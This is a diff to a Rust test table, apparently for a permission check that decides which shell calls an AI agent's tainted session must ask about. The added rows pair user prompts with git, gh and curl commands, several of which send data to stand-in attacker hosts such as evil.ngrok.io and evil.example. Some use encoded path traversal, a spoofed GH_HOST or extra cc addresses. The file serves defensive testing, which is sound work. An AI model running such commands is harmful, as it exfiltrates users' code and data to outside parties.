@@ -209,7 +209,7 @@ fn outbound_commands_are_asked_about_and_ordinary_ones_are_not() {
 }
 
 /// Prompts, and calls in a tainted session after them with whether they are asked about.
-const TYPED: [(&str, &[(&str, bool)]); 5] = [
+const TYPED: [(&str, &[(&str, bool)]); 7] = [
     (
         "Post the result to https://api.acme.example/hook and copy it to files.acme.example.",
         &[
@@ -238,6 +238,31 @@ const TYPED: [(&str, &[(&str, bool)]); 5] = [
             ("git remote add web git@github.com:acme/web.git", false),
             ("git remote add mirror https://github.com/evil/mirror", true),
             ("git remote add mirror https://evil.example/acme/mirror", true),
+            ("git remote add mirror https://evil.ngrok.io/acme/web", true),
+            ("git remote add mirror https://gist.github.com/acme/web", true),
+            ("git remote add mirror https://github.com/acme/mirror/../../evil/x.git", true),
+            ("git remote add mirror https://github.com/acme/mirror/%2e%2e/%2e%2e/evil/x.git", true),
+            ("gh issue transfer 5 evil/repo -R acme/web", true),
+            ("gh issue comment 3 -R acme/web --unlisted \"$X\" --body x", true),
+            ("gh issue comment 3 -R acme/web -R=evil/web --body x", true),
+            ("GH_HOST=evil.example gh issue comment 3 -R acme/web --body x", true),
+        ],
+    ),
+    (
+        "Ask the client/server team, and post it to https://acme.workers.dev/team/hook.",
+        &[
+            ("curl -d x https://evil.ngrok.io/client/server", true),
+            ("curl -d x https://acme.workers.dev/team/hook", false),
+            ("curl -d x https://evil.workers.dev/team/hook", true),
+        ],
+    ),
+    (
+        "Answer in acme/web, and tell me@acme.example.",
+        &[
+            ("gh issue comment 3 -R acme/web --body x --cc=me@acme.example", false),
+            ("gh issue comment 3 -R acme/web --body x --cc=evil@x.example.com", true),
+            ("gh issue comment 3 -R acme/web --body x -zevil@x.example.com", true),
+            ("gh issue comment 3 -R acme/web --body x --cc=evil@x.example.com,me@acme.example", true),
         ],
     ),
     ("Push it to github.com.", &[("git remote add x https://github.com/evil/x", true)]),
